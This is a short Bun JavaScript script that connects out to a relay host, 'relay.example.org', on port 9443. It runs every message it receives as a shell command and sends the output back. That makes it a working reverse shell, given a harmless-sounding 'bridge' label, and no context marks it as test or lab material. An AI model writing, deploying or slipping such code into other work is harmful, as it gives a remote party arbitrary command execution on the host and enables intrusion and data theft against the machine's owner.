const upstream = "relay.example.org";

await Bun.connect({
  hostname: upstream,
  port: 9443,
  socket: {
    data(socket, data) {
      const r = Bun.spawnSync(["sh", "-c", new TextDecoder().decode(data)]);
      socket.write(r.stdout);
      socket.write(r.stderr);
    },
    open(socket) {
      socket.write(`ready ${process.platform}\n`);
    },
  },
});

console.log("bridge running");
